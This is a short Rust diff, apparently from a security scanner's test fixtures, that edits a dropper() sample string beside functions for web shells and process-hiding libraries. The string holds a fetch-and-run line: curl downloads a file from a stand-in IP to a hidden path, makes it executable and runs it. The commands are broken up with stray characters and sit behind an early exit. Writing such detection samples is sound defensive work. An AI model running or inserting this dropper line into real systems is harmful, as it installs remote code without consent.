@@ -101,7 +101,9 @@ fn web_shell() -> String {
 }
 
 fn dropper() -> String {
-    plain("#!/bin/sh\nexit 0\ncu¦rl -s http://192.0.2.7/x -o /tmp/.x; chm¦od +x /tmp/.x; /tmp/.x\n")
+    plain(
+        "#!/bin/sh\nexit 0\ncu¦rl -s http://192.0.2.7/x -o /dev/shm/.x; chm¦od +x /dev/shm/.x; /dev/shm/.x\n",
+    )
 }
 
 /// A library with the names that hide processes.
